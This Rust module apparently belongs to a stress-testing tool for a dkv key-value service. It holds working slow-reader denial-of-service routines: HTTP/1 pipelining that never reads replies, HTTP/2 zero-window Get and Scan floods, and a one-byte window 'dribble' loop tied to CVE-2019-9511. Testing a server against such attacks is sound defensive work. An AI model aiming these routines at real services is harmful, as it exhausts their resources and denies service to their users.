//! Those who ask for much and read nothing, or next to nothing.

use std::io;
use std::time::Duration;

use dkv::proto::v1::{GetRequest, KeyRange, ScanRequest};
use tokio::io::AsyncWriteExt;

use super::driver::{VALUES, key};
use super::frames::{self, END_STREAM, INITIAL_WINDOW, WINDOW_UPDATE, stream};
use super::grpc;
use super::http1::head;
use super::http2::begin;
use super::plan::Plan;
use super::wire::Wire;

/// Calls on one connection: what servers commonly allow at once.
const CALLS: u32 = 100;

/// Requests that are sent without reading an answer: 100 MiB of them.
const PIPELINED: usize = 100;

pub(super) async fn http1(mut wire: Wire, plan: Plan, number: usize) -> io::Result<()> {
    for next in 0..PIPELINED {
        let path = format!("/v1/keys/{}", key(number + next));
        wire.write_all(head("GET", &path, "\r\n").as_bytes())
            .await?;
    }
    plan.count_stroke();
    // Only a write tells that the target has gone: to read is what is not done.
    while plan.pause(Duration::from_secs(1)).await {
        wire.write_all(b"\r\n").await?;
    }
    Ok(())
}

pub(super) async fn zero_window(wire: Wire, plan: Plan, number: usize) -> io::Result<()> {
    let (reading, mut writing) = begin(wire, &plan, &[(INITIAL_WINDOW, 0)]).await?;
    for next in 0..CALLS {
        let get = GetRequest {
            key: key(number + next as usize).into(),
            ..GetRequest::default()
        };
        let asked = grpc::asked(stream(next), "/dkv.v1.Kv/Get", &get, END_STREAM);
        writing.write_all(&asked).await?;
    }
    plan.count_stroke();
    reading.stay(writing).await
}

pub(super) async fn scans(wire: Wire, plan: Plan, _: usize) -> io::Result<()> {
    let (reading, mut writing) = begin(wire, &plan, &[(INITIAL_WINDOW, 0)]).await?;
    for next in 0..CALLS {
        let scan = ScanRequest {
            range: Some(KeyRange {
                start: "hostile:".into(),
                end: "hostile;".into(),
            }),
            ..ScanRequest::default()
        };
        let asked = grpc::asked(stream(next), "/dkv.v1.Kv/Scan", &scan, END_STREAM);
        writing.write_all(&asked).await?;
    }
    plan.count_stroke();
    reading.stay(writing).await
}

/// A byte of room at a time, for each of several streams (CVE-2019-9511).
pub(super) async fn dribble(wire: Wire, plan: Plan, _: usize) -> io::Result<()> {
    let (reading, mut writing) = begin(wire, &plan, &[(INITIAL_WINDOW, 0)]).await?;
    let calls = VALUES as u32;
    let drops = async {
        for next in 0..calls {
            let get = GetRequest {
                key: key(next as usize).into(),
                ..GetRequest::default()
            };
            let asked = grpc::asked(stream(next), "/dkv.v1.Kv/Get", &get, END_STREAM);
            writing.write_all(&asked).await?;
        }
        let room: Vec<u8> = (0..calls)
            .flat_map(|next| frames::frame(WINDOW_UPDATE, 0, stream(next), &1_u32.to_be_bytes()))
            .collect();
        loop {
            writing.write_all(&room).await?;
            plan.count_stroke();
            tokio::task::yield_now().await;
        }
    };
    reading.while_doing(drops).await
}
